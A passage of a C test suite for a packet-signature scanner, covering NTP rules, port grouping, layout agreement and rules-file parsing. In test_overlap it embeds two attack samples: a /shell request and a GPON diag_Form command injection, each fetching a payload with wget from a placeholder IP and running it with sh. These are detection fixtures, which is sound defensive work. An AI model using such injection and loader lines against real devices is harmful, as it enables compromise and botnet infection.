	/* A matching payload after a byte: the anchored rules no longer match. */
	{
		static const struct sample *const anchored[] = {&samples[0], &samples[1], &samples[2],
								&samples[3], &samples[4], &samples[5],
								&samples[6], &samples[7], &samples[9],
								&samples[10], &samples[11], &samples[12],
								&samples[14]};

		for (size_t i = 0; i < NELEM(anchored); i++) {
			const struct sample *sm = anchored[i];
			uint8_t buf[2048];
			uint32_t ids[DC_SIG_PKT_MATCHES];

			buf[0] = ' ';
			memcpy(buf + 1, sm->p, sm->len);
			CHECK_EQ(scan_ids(db, s, row_of(sm->id)->proto, first_port(row_of(sm->id)), buf,
					  sm->len + 1, ids), 0);
		}
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* RFC 5905 first byte: LI (2 bits), VN (3 bits), mode (3 bits). */
static void
test_ntp_first_byte(void)
{
	struct dc_sig_db *db;
	struct dc_sig_scratch *s = default_db(&db);
	int i_mon = db ? find_idx(db, 1004) : -1, i_cli = db ? find_idx(db, 1005) : -1;

	if (s == NULL)
		return;
	for (unsigned b = 0; b < 256; b++) {
		uint8_t p[48];
		uint16_t out[DC_SIG_PKT_MATCHES];
		unsigned mode = b & 7, vn = (b >> 3) & 7, li = b >> 6, n;
		int want_cli = mode == 3 && vn >= 1 && vn <= 4;
		/* mode 7: the top two bits are R (response) and M (more): 0 in a request */
		int want_mon = mode == 7 && vn >= 2 && vn <= 4 && li == 0;
		int got_cli = 0, got_mon = 0;

		memset(p, 0, sizeof(p));
		p[0] = (uint8_t)b;
		p[2] = 3;    /* monlist: implementation 3 (client: poll 3) */
		p[3] = 0x2a; /* monlist: MON_GETLIST_1 */
		n = dc_sig_scan(db, s, 17, 123, p, sizeof(p), out);
		for (unsigned k = 0; k < n; k++) {
			got_cli |= out[k] == i_cli;
			got_mon |= out[k] == i_mon;
		}
		CHECK_EQ(got_cli, want_cli);
		CHECK_EQ(got_mon, want_mon);
		CHECK_EQ(n, (unsigned)(want_cli + want_mon));
	}
	/* Stratum above 16 is reserved: not a client packet. */
	{
		uint8_t p[48];
		uint16_t out[DC_SIG_PKT_MATCHES];

		memcpy(p, s_ntp_client, 48);
		p[1] = 16;
		CHECK_EQ(dc_sig_scan(db, s, 17, 123, p, 48, out), 1);
		p[1] = 17;
		CHECK_EQ(dc_sig_scan(db, s, 17, 123, p, 48, out), 0);
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* Random payloads: nothing but what the NTP client predicate (checked above) allows. */
static void
test_random(void)
{
	struct dc_sig_db *db;
	struct dc_sig_scratch *s = default_db(&db);
	uint64_t seed = 0x5eed5eedull;
	unsigned client_hits = 0;

	if (s == NULL)
		return;
	for (unsigned it = 0; it < 4000; it++) {
		const struct table_row *t = &default_table[it % NELEM(default_table)];
		uint8_t p[1024];
		uint16_t out[DC_SIG_PKT_MATCHES];
		size_t len = 1 + dc_test_rnd(&seed) % sizeof(p);
		unsigned n;
		int want_cli;

		for (size_t k = 0; k < len; k++)
			p[k] = (uint8_t)dc_test_rnd(&seed);
		want_cli = t->id == 1004 || t->id == 1005 ?
			(len >= 48 && (p[0] & 7) == 3 && ((p[0] >> 3) & 7) >= 1 &&
			 ((p[0] >> 3) & 7) <= 4 && p[1] <= 16) : 0;
		n = dc_sig_scan(db, s, t->proto, first_port(t), p, (uint32_t)len, out);
		CHECK_EQ(n, (unsigned)want_cli);
		client_hits += want_cli;
	}
	printf("  random: %u of 444 NTP-port payloads look like NTP clients\n", client_hits);
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

static void
test_overlap(void)
{
	static const char both[] =
		"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x;sh+/tmp/x HTTP/1.1\r\n"
		"Host: 127.0.0.1:80\r\n\r\n";
	static const char gpon_full[] =
		"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"
		"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;"
		"wget+http://192.0.2.5/m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0";
	struct dc_sig_db *db;
	struct dc_sig_scratch *s = default_db(&db);
	uint32_t ids[DC_SIG_PKT_MATCHES];
	unsigned n;

	if (s == NULL)
		return;
	n = scan_ids(db, s, 6, 80, BYTES(both), ids);
	CHECK_EQ(n, 2);
	CHECK_EQ(ids[0], 2003);
	CHECK_EQ(ids[1], 2007);
	n = scan_ids(db, s, 6, 8080, BYTES(gpon_full), ids);
	CHECK_EQ(n, 2);
	CHECK_EQ(ids[0], 2004);
	CHECK_EQ(ids[1], 2007);
	/* GPON's port list: on 81 only the loader rule (ports any) is left. */
	n = scan_ids(db, s, 6, 81, BYTES(gpon_full), ids);
	CHECK_EQ(n, 1);
	CHECK_EQ(ids[0], 2007);
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* ---- port groups -------------------------------------------------------------- */

/* A rule's protocol and ports as this test reads them (independently of the library). */
struct grule {
	uint8_t proto;     /* 6, 17, 0 = any */
	unsigned n;        /* ranges; 0 = any port */
	uint32_t r[8][2];
};

static void
grule_parse(struct grule *g, uint8_t proto, const char *ports)
{
	memset(g, 0, sizeof(*g));
	g->proto = proto;
	if (strcmp(ports, "any") == 0)
		return;
	while (*ports && g->n < 8) {
		char *e;

		g->r[g->n][0] = g->r[g->n][1] = (uint32_t)strtoul(ports, &e, 10);
		if (*e == '-')
			g->r[g->n][1] = (uint32_t)strtoul(e + 1, &e, 10);
		g->n++;
		ports = *e == ',' ? e + 1 : e;
	}
}

/* Rule @p g applies to a packet of protocol @p proto to port @p port. */
static int
grule_applies(const struct grule *g, uint8_t proto, uint32_t port)
{
	if (g->proto != 0 && g->proto != proto)
		return 0;
	if (g->n == 0)
		return 1;
	for (unsigned k = 0; k < g->n; k++)
		if (port >= g->r[k][0] && port <= g->r[k][1])
			return 1;
	return 0;
}

/* Port groups the library should build, port by port: per protocol (tcp,
 * udp, another), the distinct non-empty sets of rules that apply
 * (at most 64 rules here). */
static unsigned
expected_groups(const struct grule *g, unsigned n, unsigned per[3])
{
	static const uint8_t protos[3] = {6, 17, 1};
	unsigned total = 0;

	for (unsigned c = 0; c < 3; c++) {
		uint64_t seen[512];
		unsigned nseen = 0;

		for (uint32_t port = 0; port < 65536; port++) {
			uint64_t set = 0;
			unsigned k;

			for (unsigned i = 0; i < n; i++)
				if (grule_applies(&g[i], protos[c], port))
					set |= 1ull << i;
			if (set == 0)
				continue;
			for (k = 0; k < nseen && seen[k] != set; k++)
				;
			if (k == nseen && nseen < NELEM(seen))
				seen[nseen++] = set;
		}
		per[c] = nseen;
		total += nseen;
	}
	return total;
}

/* The rule indexes @p db reports for @p p at (@p proto, @p port), as a bit set. */
static uint64_t
scan_set(const struct dc_sig_db *db, struct dc_sig_scratch *s, uint8_t proto, uint16_t port,
	 const char *p)
{
	uint16_t out[DC_SIG_PKT_MATCHES];
	unsigned n = dc_sig_scan(db, s, proto, port, (const uint8_t *)p, (uint32_t)strlen(p), out);
	uint64_t set = 0;

	for (unsigned i = 0; i < n; i++)
		set |= 1ull << out[i];
	return set;
}

/*
 * Rules file @p text (rules whose patterns all occur in @p hit), loaded in
 * both layouts: the grouped one has expected_groups() databases and the
 * other one; at each port of @p ports, for tcp, udp and protocol 1, both
 * report exactly the rules that apply (the payload holds every pattern).
 */
static void
check_grouping(const char *text, const struct grule *g, unsigned n, const char *hit,
	       const uint32_t *ports, unsigned nports)
{
	static const uint8_t protos[3] = {6, 17, 1};
	const char *f = tpath("groups.rules");
	unsigned per[3], want = expected_groups(g, n, per);

	write_str(f, text);
	for (int one = 0; one < 2; one++) {
		struct dc_sig_db *db;
		struct dc_sig_scratch *s;

		g_flags = one ? DC_SIG_ONE_DB : 0;
		db = load1(f, NULL);
		g_flags = 0;
		CHECK(db != NULL);
		if (db == NULL) {
			fprintf(stderr, "  %s\n", dc_strerror());
			continue;
		}
		CHECK_EQ(dc_sig_db_count(db), one ? 1 : want);
		CHECK(dc_sig_cache_note(db) == NULL);
		s = dc_sig_scratch_new(db);
		for (unsigned c = 0; c < 3; c++) {
			for (unsigned k = 0; k < nports; k++) {
				uint64_t exp = 0, got;

				for (unsigned i = 0; i < n; i++)
					if (grule_applies(&g[i], protos[c], ports[k]))
						exp |= 1ull << i;
				got = scan_set(db, s, protos[c], (uint16_t)ports[k], hit);
				CHECK_EQ(got, exp);
				if (got != exp)
					fprintf(stderr, "  %s, proto %u port %u\n", one ? "one" : "grouped",
						protos[c], ports[k]);
			}
		}
		dc_sig_scratch_free(s);
		dc_sig_free(db);
	}
}

static void
test_groups(void)
{
	/* The default set: its groups, and its layouts' database counts. */
	{
		struct grule g[NELEM(default_table)];
		unsigned per[3];
		struct dc_sig_db *db;

		for (size_t i = 0; i < NELEM(default_table); i++)
			grule_parse(&g[i], default_table[i].proto, default_table[i].ports);
		CHECK_EQ(expected_groups(g, NELEM(default_table), per), DEFAULT_GROUPS);
		CHECK_EQ(per[0], 4);
		CHECK_EQ(per[1], 9);
		CHECK_EQ(per[2], 0);
		db = load1(g_default, NULL);
		CHECK(db != NULL && dc_sig_db_count(db) == DEFAULT_GROUPS);
		dc_sig_free(db);
		g_flags = DC_SIG_ONE_DB;
		db = load1(g_default, NULL);
		g_flags = 0;
		CHECK(db != NULL && dc_sig_db_count(db) == 1);
		dc_sig_free(db);
	}

	/* A payload to a port no rule of its protocol names: 0, without Hyperscan
	 * (the scratch is not even read: NULL here). */
	{
		const char *f = tpath("udponly.rules");
		struct dc_sig_db *db;
		uint16_t out[DC_SIG_PKT_MATCHES];

		db = load1(g_default, NULL);
		CHECK(db != NULL);
		if (db != NULL) {
			CHECK_EQ(dc_sig_scan(db, NULL, 17, 1901, BYTES(s_ssdp), out), 0);
			CHECK_EQ(dc_sig_scan(db, NULL, 17, 54, BYTES(s_dns_any), out), 0);
			CHECK_EQ(dc_sig_scan(db, NULL, 1, 80, BYTES(s_loader), out), 0);
			dc_sig_free(db);
		}
		write_str(f, "1 a f udp 53 /abc/\n");
		db = load1(f, NULL);
		CHECK(db != NULL && dc_sig_db_count(db) == 1);
		if (db != NULL) {
			CHECK_EQ(dc_sig_scan(db, NULL, 6, 53, BYTES("abc"), out), 0);
			CHECK_EQ(dc_sig_scan(db, NULL, 17, 52, BYTES("abc"), out), 0);
			CHECK_EQ(dc_sig_scan(db, NULL, 17, 54, BYTES("abc"), out), 0);
			dc_sig_free(db);
		}
	}

	/* A rule of protocol any and ports any is in every group of every protocol. */
	{
		static const char text[] = "1 anyr f any any /zz/\n"
					   "2 u1 f udp 53 /aa/\n"
					   "3 u2 f udp 100-200 /bb/\n"
					   "4 t1 f tcp 80 /cc/\n"
					   "5 t2 f tcp 8000-8080 /dd/\n";
		static const uint32_t ports[] = {0,   1,    52,   53,   54,   80,   99,   100,
						 150, 200,  201,  7999, 8000, 8080, 8081, 65535};
		struct grule g[5];
		unsigned per[3];

		grule_parse(&g[0], 0, "any");
		grule_parse(&g[1], 17, "53");
		grule_parse(&g[2], 17, "100-200");
		grule_parse(&g[3], 6, "80");
		grule_parse(&g[4], 6, "8000-8080");
		CHECK_EQ(expected_groups(g, 5, per), 7); /* tcp 3, udp 3, other 1 */
		check_grouping(text, g, 5, "zz aa bb cc dd", ports, NELEM(ports));
	}

	/* Overlapping ranges of two rules (and a third inside both): the right
	 * groups, right at the ranges' edges. */
	{
		static const char text[] = "1 a f udp 100-200 /xx/\n"
					   "2 b f udp 150-300,250-260 /yy/\n"
					   "3 c f tcp 150 /xx/\n"
					   "4 d f udp 200 /zz/\n"
					   "5 e f any 160-170,300 /ww/\n";
		static const uint32_t ports[] = {0,   99,  100, 101, 149, 150, 151, 159, 160,
						 170, 171, 199, 200, 201, 299, 300, 301, 65535};
		struct grule g[5];
		unsigned per[3];

		grule_parse(&g[0], 17, "100-200");
		grule_parse(&g[1], 17, "150-300");
		grule_parse(&g[2], 6, "150");
		grule_parse(&g[3], 17, "200");
		grule_parse(&g[4], 0, "160-170,300");
		/* udp {1} {1,2} {1,2,5} {1,2,4} {2} {2,5}; tcp {3} {5}; other {5} */
		CHECK_EQ(expected_groups(g, 5, per), 9);
		CHECK_EQ(per[1], 6);
		check_grouping(text, g, 5, "xx yy zz ww", ports, NELEM(ports));
	}

	/* A bad pattern in a later group is still named with its own file and line. */
	{
		const char *f = tpath("bad-late.rules");
		char prefix[512];

		write_str(f, "1 ok f udp 53 /fine/\n2 ok2 f tcp 80 /fine2/\n# x\n99 bad f tcp 8080 /a(b/\n");
		for (int one = 0; one < 2; one++) {
			g_flags = one ? DC_SIG_ONE_DB : 0;
			CHECK(load1(f, NULL) == NULL);
			g_flags = 0;
			snprintf(prefix, sizeof(prefix), "%s:4: rule 99: ", f);
			CHECK(strncmp(dc_strerror(), prefix, strlen(prefix)) == 0);
		}
	}

	/* Unknown load flags. */
	{
		const char *files[] = {g_default};

		CHECK(dc_sig_load_opts(files, 1, NULL, 0x4) == NULL);
		CHECK(msg_is("dc_sig_load_opts: unknown flags 0x4"));
	}
}

/* 255 port groups in one protocol are fine; 300 fall back to one database
 * for that protocol, with the port filter per match and a note. */
static void
test_groups_fallback(void)
{
	const char *f = tpath("many-ports.rules");
	char dir[256];
	size_t cap = 400 * 48, o;
	char *buf = malloc(cap);
	struct dc_sig_db *db;
	struct dc_sig_scratch *s;

	snprintf(dir, sizeof(dir), "%s/cache-fallback", g_tmp);
	/* 255: exactly the limit */
	o = 0;
	for (unsigned i = 0; i < 255; i++)
		o += (size_t)snprintf(buf + o, cap - o, "%u r%u f udp %u /u%ux/\n", i + 1, i,
				      1000 + i, i);
	write_str(f, buf);
	db = load1(f, NULL);
	CHECK(db != NULL && dc_sig_db_count(db) == 255 && dc_sig_cache_note(db) == NULL);
	if (db != NULL) {
		s = dc_sig_scratch_new(db);
		{
			uint16_t out[DC_SIG_PKT_MATCHES];

			CHECK_EQ(dc_sig_scan(db, s, 17, 1254, BYTES("u254x"), out), 1);
			CHECK_EQ(out[0], 254);
			CHECK_EQ(dc_sig_scan(db, s, 17, 1253, BYTES("u254x"), out), 0);
		}
		dc_sig_scratch_free(s);
		dc_sig_free(db);
	}

	/* 300 udp rules on one port each, and two tcp rules that stay grouped */
	o = 0;
	for (unsigned i = 0; i < 300; i++)
		o += (size_t)snprintf(buf + o, cap - o, "%u r%u f udp %u /u%ux/\n", i + 1, i,
				      1000 + i, i);
	o += (size_t)snprintf(buf + o, cap - o, "901 t1 f tcp any /t1x/\n902 t2 f tcp 80 /t2x/\n");
	write_str(f, buf);
	free(buf);
	for (int pass = 0; pass < 2; pass++) {
		/* compiled, then from the cache: the same note and answers */
		uint16_t out[DC_SIG_PKT_MATCHES];

		db = load1(f, dir);
		CHECK(db != NULL);
		if (db == NULL) {
			fprintf(stderr, "  %s\n", dc_strerror());
			return;
		}
		CHECK_EQ(dc_sig_from_cache(db), pass);
		CHECK_EQ(dc_sig_db_count(db), 1 + 2);
		CHECK(dc_sig_cache_note(db) != NULL &&
		      strcmp(dc_sig_cache_note(db), "udp rules need more than 255 port groups: one "
						    "udp database, ports checked per match") == 0);
		if (pass == 0 && dc_sig_cache_note(db) != NULL)
			printf("  fallback: %s\n", dc_sig_cache_note(db));
		s = dc_sig_scratch_new(db);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1005, BYTES("u5x"), out), 1);
		CHECK_EQ(out[0], 5);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1006, BYTES("u5x"), out), 0);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1006, BYTES("u5x u6x u7x"), out), 1);
		CHECK_EQ(out[0], 6);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1299, BYTES("u299x"), out), 1);
		CHECK_EQ(dc_sig_scan(db, NULL, 17, 999, BYTES("u5x"), out), 0);  /* no rule: not scanned */
		CHECK_EQ(dc_sig_scan(db, NULL, 17, 1300, BYTES("u5x"), out), 0);
		CHECK_EQ(dc_sig_scan(db, s, 6, 1005, BYTES("u5x"), out), 0);
		CHECK_EQ(dc_sig_scan(db, s, 6, 80, BYTES("t1x t2x"), out), 2);
		CHECK_EQ(dc_sig_scan(db, s, 6, 81, BYTES("t1x t2x"), out), 1);
		CHECK_EQ(out[0], 300);
		dc_sig_scratch_free(s);
		dc_sig_free(db);
	}
}

/*
 * Payloads on which @p a and @p b give different rule sets: every sample,
 * variant and near miss at its own protocol and port and at a few others,
 * and @p nrand samples with one random byte changed.
 */
static unsigned
differences(const struct dc_sig_db *a, const struct dc_sig_db *b, unsigned nrand)
{
	static const uint16_t ports[] = {9, 53, 80, 123, 137, 161, 389, 1900, 3702, 5060, 5061,
					 8080, 11211, 37215, 52869};
	struct dc_sig_scratch *sa = dc_sig_scratch_new(a), *sb = dc_sig_scratch_new(b);
	uint64_t seed = 0xd1ffull;
	unsigned diff = 0;

	for (int kind = 0; kind < 3; kind++) {
		const struct sample *sm = kind == 0 ? samples : variants;
		size_t nsm = kind == 0 ? NELEM(samples) : kind == 1 ? NELEM(variants) : NELEM(decoys);

		for (size_t i = 0; i < nsm; i++) {
			const uint8_t *p = kind == 2 ? decoys[i].p : sm[i].p;
			size_t len = kind == 2 ? decoys[i].len : sm[i].len;

			for (size_t k = 0; k <= NELEM(ports); k++) {
				for (uint8_t proto = 6; proto <= 17; proto += 11) {
					uint16_t port = k < NELEM(ports) ? ports[k]
							: kind == 2 ? decoys[i].port
							: first_port(row_of(sm[i].id));
					uint32_t x[DC_SIG_PKT_MATCHES], y[DC_SIG_PKT_MATCHES];
					unsigned nx = scan_ids(a, sa, proto, port, p, len, x);
					unsigned ny = scan_ids(b, sb, proto, port, p, len, y);

					diff += nx != ny || memcmp(x, y, nx * sizeof(*x)) != 0;
				}
			}
		}
	}
	for (unsigned it = 0; it < nrand; it++) {
		const struct sample *sm = &samples[dc_test_rnd(&seed) % NELEM(samples)];
		const struct table_row *t = row_of(sm->id);
		uint8_t buf[2048];
		uint32_t x[DC_SIG_PKT_MATCHES], y[DC_SIG_PKT_MATCHES];
		unsigned nx, ny;

		memcpy(buf, sm->p, sm->len);
		if (dc_test_rnd(&seed) % 2)
			buf[dc_test_rnd(&seed) % sm->len] = (uint8_t)dc_test_rnd(&seed);
		nx = scan_ids(a, sa, t->proto, first_port(t), buf, sm->len, x);
		ny = scan_ids(b, sb, t->proto, first_port(t), buf, sm->len, y);
		diff += nx != ny || memcmp(x, y, nx * sizeof(*x)) != 0;
	}
	dc_sig_scratch_free(sa);
	dc_sig_scratch_free(sb);
	return diff;
}

/* The two layouts give the same answers on the default set. */
static void
test_layouts_agree(void)
{
	struct dc_sig_db *g = load1(g_default, NULL), *one;

	g_flags = DC_SIG_ONE_DB;
	one = load1(g_default, NULL);
	g_flags = 0;
	CHECK(g != NULL && one != NULL);
	if (g != NULL && one != NULL) {
		unsigned d = differences(g, one, 4000);

		CHECK_EQ(d, 0);
		CHECK(strcmp(dc_sig_hash(g), dc_sig_hash(one)) != 0);
	}
	dc_sig_free(g);
	dc_sig_free(one);
}

/* ---- format features on small files ------------------------------------------ */

static void
test_ports_flags(void)
{
	const char *f = tpath("ports.rules");
	struct dc_sig_db *db;
	struct dc_sig_scratch *s;
	uint16_t out[DC_SIG_PKT_MATCHES];

	write_str(f,
		  "# comment\n"
		  "\n"
		  "  \t# indented comment\n"
		  "1 ranges fam udp 8000-8100,80,81,79,443,8050,444 /abc/\n"
		  "2 anytcp  fam tcp any /abc/\r\n"
		  "3\tanyproto\tfam\tany\t7\t/abc/\t \n"
		  "4 anch fam any 1 /abc/a\n"
		  "5 anchm fam any 1 /abc/am\n"
		  "6 caret-m fam any 1 /^abc/m\n"
		  "7 dot fam any 2 /x.y/\n"
		  "8 dotall fam any 2 /x.y/s\n"
		  "9 caseless fam any 3 /q/r/i\n"
		  "10 dollar-m fam any 4 /end$/m\n"
		  "4294967295 maxid fam any 65535 /zz/\n");
	db = load1(f, NULL);
	CHECK(db != NULL);
	if (db == NULL) {
		fprintf(stderr, "  %s\n", dc_strerror());
		return;
	}
	CHECK_EQ(dc_sig_count(db), 11);
	{
		const struct dc_sig_rule *r = dc_sig_rule(db, 0);

		CHECK_EQ(r->nranges, 3);
		CHECK_EQ(r->ranges[0][0], 79);
		CHECK_EQ(r->ranges[0][1], 81);
		CHECK_EQ(r->ranges[1][0], 443);
		CHECK_EQ(r->ranges[1][1], 444);
		CHECK_EQ(r->ranges[2][0], 8000);
		CHECK_EQ(r->ranges[2][1], 8100);
		CHECK_EQ(r->line, 4);
		CHECK(strcmp(r->expr, "abc") == 0);
		CHECK_EQ(dc_sig_rule(db, 1)->proto, 6);
		CHECK_EQ(dc_sig_rule(db, 1)->nranges, 0);
		CHECK_EQ(dc_sig_rule(db, 2)->proto, 0);
		CHECK_EQ(dc_sig_rule(db, 3)->flags, DC_SIG_F_ANCHORED);
		CHECK_EQ(dc_sig_rule(db, 4)->flags, DC_SIG_F_ANCHORED | DC_SIG_F_MULTILINE);
		CHECK_EQ(dc_sig_rule(db, 7)->flags, DC_SIG_F_DOTALL);
		/* The pattern ends at the line's last '/'. */
		CHECK(strcmp(dc_sig_rule(db, 8)->expr, "q/r") == 0);
		CHECK_EQ(dc_sig_rule(db, 8)->flags, DC_SIG_F_CASELESS);
		CHECK_EQ(dc_sig_rule(db, 10)->id, 4294967295u);
	}
	s = dc_sig_scratch_new(db);
	CHECK(s != NULL);
	{
		/* Port filter of rule 1 (udp only): in, out, and the range edges. */
		static const struct {
			uint16_t port;
			int in;
		} pc[] = {{78, 0}, {79, 1}, {80, 1}, {81, 1}, {82, 0}, {442, 0}, {443, 1},
			  {444, 1}, {445, 0}, {7999, 0}, {8000, 1}, {8050, 1}, {8100, 1},
			  {8101, 0}, {0, 0}, {65535, 0}};

		for (size_t i = 0; i < NELEM(pc); i++) {
			unsigned n = dc_sig_scan(db, s, 17, pc[i].port, BYTES("xxabcxx"), out);

			/* rule 1 if in range; rules 2 (tcp) never; rule 3 only on port 7 */
			CHECK_EQ(n, (unsigned)pc[i].in);
			if (n == 1)
				CHECK_EQ(out[0], 0);
		}
		CHECK_EQ(dc_sig_scan(db, s, 6, 80, BYTES("xxabcxx"), out), 1);
		CHECK_EQ(out[0], 1);
		CHECK_EQ(dc_sig_scan(db, s, 6, 7, BYTES("xxabcxx"), out), 2);
		CHECK_EQ(dc_sig_scan(db, s, 17, 7, BYTES("xxabcxx"), out), 1);
		CHECK_EQ(out[0], 2);
		CHECK_EQ(dc_sig_scan(db, s, 1, 7, BYTES("xxabcxx"), out), 1); /* any proto */
		/* a: only at the payload's first byte, even with m */
		CHECK_EQ(dc_sig_scan(db, s, 17, 1, BYTES("abcdef"), out), 3);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1, BYTES("xabc"), out), 0);
		CHECK_EQ(dc_sig_scan(db, s, 17, 1, BYTES("x\nabc"), out), 1);
		CHECK_EQ(out[0], 5); /* /^abc/m, not /abc/am */
		/* s */
		CHECK_EQ(dc_sig_scan(db, s, 17, 2, BYTES("x\ny"), out), 1);
		CHECK_EQ(out[0], 7);
		CHECK_EQ(dc_sig_scan(db, s, 17, 2, BYTES("x-y"), out), 2);
		/* i */
		CHECK_EQ(dc_sig_scan(db, s, 17, 3, BYTES("Q/R"), out), 1);
		/* m: $ before a newline */
		CHECK_EQ(dc_sig_scan(db, s, 17, 4, BYTES("the end\nmore"), out), 1);
		CHECK_EQ(dc_sig_scan(db, s, 17, 4, BYTES("the endless"), out), 0);
		CHECK_EQ(dc_sig_scan(db, s, 17, 65535, BYTES("zz"), out), 1);
		CHECK_EQ(dc_sig_scan(db, s, 17, 65534, BYTES("zz"), out), 0);
		/* len 0 */
		CHECK_EQ(dc_sig_scan(db, s, 6, 80, (const uint8_t *)"abc", 0, out), 0);
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* More than DC_SIG_PKT_MATCHES matching rules: the first 16 found, each once. */
static void
test_match_cap(void)
{
	const char *f = tpath("many.rules");
	char buf[4096];
	size_t o = 0;
	struct dc_sig_db *db;
	struct dc_sig_scratch *s;
	uint16_t out[DC_SIG_PKT_MATCHES + 4];

	for (unsigned i = 0; i < 24; i++)
		o += (size_t)snprintf(buf + o, sizeof(buf) - o, "%u r%u f any any /hit/\n", i + 1,
				      i);
	write_str(f, buf);
	db = load1(f, NULL);
	CHECK(db != NULL);
	if (db == NULL)
		return;
	s = dc_sig_scratch_new(db);
	memset(out, 0xff, sizeof(out));
	CHECK_EQ(dc_sig_scan(db, s, 6, 1, BYTES("hit hit hit"), out), DC_SIG_PKT_MATCHES);
	CHECK_EQ(out[DC_SIG_PKT_MATCHES], 0xffff); /* nothing written past the cap */
	for (unsigned i = 0; i < DC_SIG_PKT_MATCHES; i++) {
		CHECK(out[i] < 24);
		for (unsigned j = 0; j < i; j++)
			CHECK(out[i] != out[j]);
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* Several files; duplicate ids across them. */
static void
test_multi_file(void)
{
	const char *a = tpath("a.rules"), *b = tpath("b.rules");
	const char *files[2] = {a, b};
	struct dc_sig_db *db;
	char want[512];

	write_str(a, "# a\n1001 one f udp 1 /one/\n");
	write_str(b, "2001 two f tcp 2 /two/\n");
	db = dc_sig_load(files, 2, NULL);
	CHECK(db != NULL);
	if (db != NULL) {
		CHECK_EQ(dc_sig_count(db), 2);
		CHECK(strcmp(dc_sig_rule(db, 0)->file, a) == 0);
		CHECK(strcmp(dc_sig_rule(db, 1)->file, b) == 0);
		CHECK_EQ(dc_sig_rule(db, 1)->line, 1);
		dc_sig_free(db);
	}
	write_str(b, "\n\n1001 two f tcp 2 /two/\n");
	CHECK(dc_sig_load(files, 2, NULL) == NULL);
	snprintf(want, sizeof(want), "%s:3: duplicate id 1001 (first at %s:2)", b, a);
	CHECK(msg_is(want));

	write_str(a, "# nothing\n\n");
	write_str(b, "   \n# still nothing\n");
	CHECK(dc_sig_load(files, 2, NULL) == NULL);
	snprintf(want, sizeof(want), "%s (and 1 more files): no rules in any file", a);
	CHECK(msg_is(want));
	CHECK(load1(a, NULL) == NULL);
	snprintf(want, sizeof(want), "%s: no rules", a);
	CHECK(msg_is(want));
	CHECK(dc_sig_load(files, 0, NULL) == NULL);
	CHECK(dc_sig_load(NULL, 1, NULL) == NULL);
}

struct bad_case {
	const char *text;
	unsigned line;
	const char *problem;
};

static void
test_bad_rules(void)
{
	static const struct bad_case cases[] = {
		{"1 a f icmp any /x/\n", 1, "unknown proto 'icmp' (expected tcp, udp or any)"},
		{"#\n1 a f TCP any /x/\n", 2, "unknown proto 'TCP' (expected tcp, udp or any)"},
		{"1 a f udp 70000 /x/\n", 1, "bad port '70000' (expected 0 .. 65535 or a range a-b)"},
		{"1 a f udp 80,x /x/\n", 1, "bad port 'x' (expected 0 .. 65535 or a range a-b)"},
		{"1 a f udp 80,,81 /x/\n", 1, "empty port in '80,,81'"},
		{"1 a f udp 80, /x/\n", 1, "empty port in '80,'"},
		{"1 a f udp 1-70000 /x/\n", 1, "bad port '1-70000' (expected 0 .. 65535 or a range a-b)"},
		{"1 a f udp 90-80 /x/\n", 1, "bad port range '90-80' (first port above last)"},
		{"1 a f udp -5 /x/\n", 1, "bad port '-5' (expected 0 .. 65535 or a range a-b)"},
		{"\n\n1 a f udp 1 /abc\n", 3, "missing closing '/' in '/abc'"},
		{"1 a f udp 1 abc/\n", 1, "pattern must be written /regex/flags, got 'abc/'"},
		{"1 a f udp 1 //i\n", 1, "empty pattern"},
		{"1 a f udp 1 /abc/ix\n", 1, "unknown flag 'x' (expected i, s, m or a)"},
		{"1 a f udp 1 /abc/ i\n", 1, "unknown option 'i' after the pattern (expected depth=N)"},
		{"1 a f udp 1 /abc/i deep=4\n", 1, "unknown option 'deep=4' after the pattern (expected depth=N)"},
		{"1 a f udp 1 /abc/ depth=\n", 1, "unknown option 'depth=' after the pattern (expected depth=N)"},
		{"1 a f udp 1 /abc/ depth=0\n", 1, "bad depth 'depth=0' (expected depth=1 .. depth=65535)"},
		{"1 a f udp 1 /abc/ depth=65536\n", 1, "bad depth 'depth=65536' (expected depth=1 .. depth=65535)"},
		{"1 a f udp 1 /abc/ depth=1x\n", 1, "bad depth 'depth=1x' (expected depth=1 .. depth=65535)"},
		{"1 a f udp 1 /abc/ depth=9 depth=9\n", 1, "depth given twice ('depth=9')"},
		{"1 a f udp 1 /abc/idepth=5\n", 1, "unknown flag 'd' (expected i, s, m or a)"},
		/* Hyperscan refuses "a)|(b"; wrapped for flag a it would compile */
		{"#\n1 a f udp 1 /a)|(b/a\n", 2, "rule 1: Unmatched parentheses at index 1."},
		{"1 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa f udp 1 /x/\n", 1,
		 "name too long: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' (at most 47 characters)"},
		{"1 a ffffffffffffffffffffffffffffffff udp 1 /x/\n", 1,
		 "family too long: 'ffffffffffffffffffffffffffffffff' (at most 31 characters)"},
		{"1 a/b f udp 1 /x/\n", 1, "bad name 'a/b' (allowed: A-Z a-z 0-9 . _ -)"},
		{"1 a f\x01 udp 1 /x/\n", 1, "bad family 'f\\x01' (allowed: A-Z a-z 0-9 . _ -)"},
		{"0 a f udp 1 /x/\n", 1, "bad id '0' (expected 1 .. 4294967295)"},
		{"4294967296 a f udp 1 /x/\n", 1, "bad id '4294967296' (expected 1 .. 4294967295)"},
		{"x1 a f udp 1 /x/\n", 1, "bad id 'x1' (expected 1 .. 4294967295)"},
		{"1 a f udp\n", 1, "missing field 'ports' (expected: id name family proto ports /regex/flags)"},
		{"1 a f udp 1   \n", 1, "missing field 'pattern' (expected: id name family proto ports /regex/flags)"},
